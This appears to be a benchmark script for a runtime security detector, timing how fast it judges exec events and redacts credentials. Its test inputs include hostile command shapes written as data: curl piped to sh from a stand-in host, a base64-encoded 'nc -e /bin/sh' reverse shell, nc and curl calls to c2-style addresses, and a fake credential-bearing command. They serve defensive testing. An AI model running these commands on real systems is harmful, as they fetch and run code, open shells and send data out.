// What a judgement costs, without reading from a stream: `npm run bench:detect`; `-- --full` for more rounds,
// `-- --json` for tools. CPU time of this process (garbage collection and compilation included), medians of
// interleaved rounds. Events are those of the recordings and of the labelled corpus, normalized beforehand.
import { readFileSync } from 'node:fs';
import { cpus } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { eventOf } from '../../dist/commands/judge.js';
import { defaultDetectConfig } from '../../dist/detect/config.js';
import { exampleEvent } from '../../dist/detect/examples.js';
import { createDetector } from '../../dist/detect/index.js';
import { redactEvent, redactText, redactVerdict } from '../../dist/detect/redact.js';
import { newSourceCounts } from '../../dist/model/intake.js';
import { recordTaker } from '../../dist/sources/record-taker.js';
import { readRecording } from '../../dist/sources/recording.js';
import { ProcessTable } from '../../dist/state/process-table.js';
import { RecentExecs } from '../../dist/state/recent.js';
import { silentLog } from '../../dist/telemetry/log.js';

const test = join(dirname(fileURLToPath(import.meta.url)), '..');
const full = process.argv.includes('--full');
const rounds = full ? 21 : 7;
const roundUs = full ? 200_000 : 60_000;
const everything = { path: () => true, text: () => true, exec: () => true };
const config = defaultDetectConfig();
const detector = createDetector(config);
const withoutRedaction = createDetector({ ...config, redact: false });

/** All execs of a recording, as the pipeline would judge them. */
async function eventsOf(recording) {
  const events = [];
  const intake = {
    counts: newSourceCounts(),
    interest: everything,
    processes: new ProcessTable({ maxBytes: 64 * 1024 * 1024, maxEntries: 100_000 }),
    recent: new RecentExecs({ containers: 1000, slots: 20 }),
    offer(message, decode) {
      const event = decode(message);
      if (event !== undefined) events.push(event);
      return true;
    },
    judge: (event) => void events.push(event),
    alert() {},
    unreadable(reason, detail) {
      throw new Error(`${recording}: ${reason}: ${detail}`);
    },
  };
  await readRecording(join(test, 'fixtures/recordings', recording), {
    intake,
    taker: (form, shape) => recordTaker(form, shape, { source: 'bench', intake, log: silentLog }),
  });
  return events;
}

const corpus = readFileSync(join(test, 'corpus/dev.jsonl'), 'utf8')
  .trimEnd()
  .split('\n')
  .map((line, at) => eventOf(line, at + 1, 'corpus').event);
const inContainer = (event) => event.container !== undefined;
const storm = [
  ...(await eventsOf('tetragon/storm.bin.gz')),
  ...(await eventsOf('falco/storm-lean.bin.gz')),
].filter(inContainer);
const scenario = [
  ...(await eventsOf('tetragon/scenario-k8s.bin.gz')),
  ...(await eventsOf('falco/scenario.bin.gz')),
].filter(inContainer);

const named = (event) => detector.judge(event).tool !== undefined;
const toolEvents = [...corpus, ...scenario].filter(named);
const others = [...storm, ...corpus, ...scenario].filter((event) => !named(event));
const plainEvents = others.filter((event) => !detector.interest.event(event.process));
/** Shells, interpreters and arguments that speak of a tool: looked into, and nothing found. */
const nearEvents = others.filter((event) => detector.interest.event(event.process));
const findings = toolEvents
  .map((event) => ({ event, verdict: withoutRedaction.judge(event) }))
  .filter(({ verdict }) => verdict.severity !== 'none');

const kB = 1000;
const filler = (unit) => unit.repeat(Math.ceil((100 * kB) / unit.length)).slice(0, 100 * kB);
/** 100 kB of arguments each, in the shapes that cost most. */
const heavy = [
  ['one word', 'nc', [filler('A'), '198.51.100.7', '443']],
  ['a header before the URL', 'curl', ['-H', `X-Data: ${filler('QUJD')}`, 'http://c2.example.net/']],
  ['10,000 words', 'nc', [...filler('word12345 ').trim().split(' '), '198.51.100.7', '443']],
  ['10,000 URLs', 'curl', filler('http://h/ ').trim().split(' ')],
  ['a shell string of commands', 'sh', ['-c', filler('curl -s http://h.example/ | sh; ')]],
  ['nested substitutions', 'sh', ['-c', `nc ${filler('$(')}`]],
  ['an encoded payload', 'sh', ['-c', `echo ${filler('bmMgLWUgL2Jpbi9zaCAxIDI7')}|base64 -d|sh`]],
  ['inline code', 'python3', ['-c', `import socket;${filler('s=socket.socket();')}`]],
  ['an unknown program', '/opt/app/bin/worker', [filler('key=value ')]],
].map(([what, name, words]) => {
  const event = exampleEvent({ run: name });
  return [what, { ...event, process: { ...event.process, argv: [name, ...words] } }];
});

/** Each: a name, its unit, the work of one call over all events, and how many events that is. */
const judgeAll = (events) => () => {
  for (const event of events) detector.judge(event);
};
const secret = 'curl -u admin:hunter2hunter2 -H "Authorization: Bearer abcdefghijklmnop" https://u:p4ssw0rd@h.example/';
const benches = [
  ['plain', `judgement of an event that names no tool (${plainEvents.length} events)`, 'ns', plainEvents.length, judgeAll(plainEvents)],
  ['near', `… whose arguments made it worth a look (${nearEvents.length} events)`, 'µs', nearEvents.length, judgeAll(nearEvents)],
  ['tool', `judgement of an event that names a tool (${toolEvents.length} events, ${findings.length} findings)`, 'µs', toolEvents.length, judgeAll(toolEvents)],
  ['redaction', `redaction of a finding: verdict, event, ancestors (${findings.length} findings)`, 'µs', findings.length, () => {
    for (const { event, verdict } of findings) {
      redactVerdict(verdict);
      redactEvent(event);
    }
  }],
  ['redact_line', 'redaction of one command line with three credentials', 'µs', 1, () => redactText(secret)],
  ...heavy.map(([what, event]) => [`heavy ${what}`, `judgement of 100 kB of arguments: ${what}`, 'µs', 1, () => detector.judge(event)]),
];

function round(work) {
  let calls = 0;
  const start = process.cpuUsage();
  for (;;) {
    work();
    calls += 1;
    const { user, system } = process.cpuUsage(start);
    if (user + system >= roundUs) return (user + system) / calls;
  }
}

const samples = new Map(benches.map(([name]) => [name, []]));
for (const [, , , , work] of benches) round(work);
for (let at = 0; at < rounds; at += 1) for (const [name, , , count, work] of benches) samples.get(name).push(round(work) / count);

const rows = benches.map(([name, what, unit]) => {
  const sorted = samples.get(name).sort((a, b) => a - b);
  const scale = unit === 'ns' ? 1000 : 1;
  return { name, what, unit, median: sorted[Math.floor(rounds / 2)] * scale, min: sorted[0] * scale, max: sorted[rounds - 1] * scale };
});
if (process.argv.includes('--json'))
  process.stdout.write(`${JSON.stringify({ node: process.version, cpu: cpus()[0]?.model, rounds, rows })}\n`);
else {
  const figure = (value) => (value < 10 ? value.toFixed(1) : Math.round(value).toString());
  process.stdout.write(`Node ${process.version}, ${cpus().length} × ${cpus()[0]?.model ?? '?'}, ${rounds} interleaved rounds\n\n| what | CPU, median [min-max] |\n|---|---|\n`);
  for (const { what, unit, median, min, max } of rows)
    process.stdout.write(`| ${what} | ${figure(median)} ${unit} [${figure(min)}-${figure(max)}] |\n`);
}
